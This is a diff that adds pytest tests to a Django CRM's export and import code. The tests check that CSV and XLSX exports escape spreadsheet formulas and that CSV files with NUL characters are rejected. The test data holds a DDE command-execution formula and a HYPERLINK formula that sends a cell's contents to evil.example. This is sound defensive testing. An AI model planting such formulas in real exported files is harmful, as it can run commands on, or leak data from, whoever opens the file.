@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import codecs
 import csv
 import io
+import zipfile
 
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
@@ -16,6 +18,7 @@ from greenwave.core.models import Event
 from greenwave.crm import selectors, services
 from greenwave.crm.models import Company, Contact, ImportJob
 from greenwave.crm.requisites import inn_with_checksum
+from greenwave.crm.tabular import read_table, write_csv, write_xlsx
 
 from .conftest import VALID_INN, bad_checksum
 
@@ -469,3 +472,86 @@ def test_api_export(two_teams, bearer, company_a) -> None:
     contacts = bearer(two_teams["hunter_a"]).get("/api/v1/contacts/export?format=xlsx")
     assert contacts.status_code == 200
     assert contacts.content.startswith(b"PK")
+
+
+FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1;"click")']
+
+
+def _xlsx_cells(content: bytes) -> list[tuple[object, str]]:
+    sheet = load_workbook(io.BytesIO(content)).active
+    return [(c.value, c.data_type) for row in sheet.iter_rows() for c in row]
+
+
+@pytest.mark.parametrize("surface", ["html", "api"])
+def test_exports_make_formulas_inert_in_csv_and_xlsx(two_teams, bearer, surface) -> None:
+    actor = two_teams["head_a"]
+    for name in FORMULAS:
+        services.company_create(actor=actor, name=name, phone="+7 495 100-00-01")
+    if surface == "html":
+        client = Client()
+        client.force_login(actor)
+        url = reverse("crm:company_export")
+    else:
+        client = bearer(actor)
+        url = "/api/v1/companies/export"
+
+    response = client.get(url + "?format=csv&sort=name")
+    assert response.status_code == 200
+    content = b"".join(response.streaming_content) if response.streaming else response.content
+    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
+    names = sorted(row[0] for row in rows[1:])
+    assert names == sorted("'" + name for name in FORMULAS)
+    assert {row[11] for row in rows[1:]} == {"'+74951000001"}  # the phone, normalised
+
+    response = client.get(url + "?format=xlsx")
+    assert response.status_code == 200
+    cells = _xlsx_cells(response.content)
+    assert {"'" + name for name in FORMULAS} <= {value for value, _type in cells}
+    assert all(data_type != "f" for _value, data_type in cells)  # no cell is a formula
+    with zipfile.ZipFile(io.BytesIO(response.content)) as book:
+        sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
+        assert not any(b"<f>" in book.read(n) for n in sheets)
+
+
+@pytest.mark.parametrize(
+    ("value", "stored"),
+    [
+        ("=1+1", "=1+1"),
+        ("+1+1", "+1+1"),
+        ("-1+1", "-1+1"),
+        ("@SUM(A1:A2)", "@SUM(A1:A2)"),
+        ("\t=1+1", "=1+1"),  # cells are stripped: the formula behind the tab is escaped
+        ("\r\n=1+1", "=1+1"),
+    ],
+)
+def test_every_formula_trigger_is_escaped_and_reads_back_unchanged(value, stored) -> None:
+    text = b"".join(write_csv(["Name", "Amount"], [[value, -5]])).decode("utf-8-sig")
+    row = list(csv.reader(io.StringIO(text), delimiter=";"))[1]
+    assert row == ["'" + stored, "-5"]  # numbers stay numbers
+    assert read_table(text.encode(), "x.csv").rows == [[stored, "-5"]]
+    xlsx = write_xlsx("t", ["Name", "Amount"], [[value, -5]])
+    assert _xlsx_cells(xlsx)[2:] == [("'" + stored, "s"), (-5, "n")]
+    assert read_table(xlsx, "x.xlsx").rows == [[stored, "-5"]]
+
+
+def test_a_utf16_csv_with_its_bom_is_read(two_teams) -> None:
+    text = "\t".join(HEADER) + "\n" + "\t".join(company_rows()[0]) + "\n"
+    job = upload(two_teams["head_a"], codecs.BOM_UTF16_LE + text.encode("utf-16-le"))
+    assert (job.encoding, job.delimiter, job.total_rows) == ("utf-16", "\t", 1)
+    assert job.headers == HEADER
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        "Название;ИНН\nРомашка;1\n".encode("utf-16-le"),  # UTF-16 without a BOM
+        b"Name\x00;INN\nA;1\n",  # a NUL in a header
+        b"Name;INN\nA\x00;1\n",
+    ],
+)
+def test_a_csv_with_nul_characters_is_refused_clearly(two_teams, content) -> None:
+    with pytest.raises(DomainError) as error:
+        upload(two_teams["head_a"], content)
+    assert error.value.code == "crm.bad_file"
+    assert "NUL" in error.value.message
+    assert ImportJob.objects.count() == 0
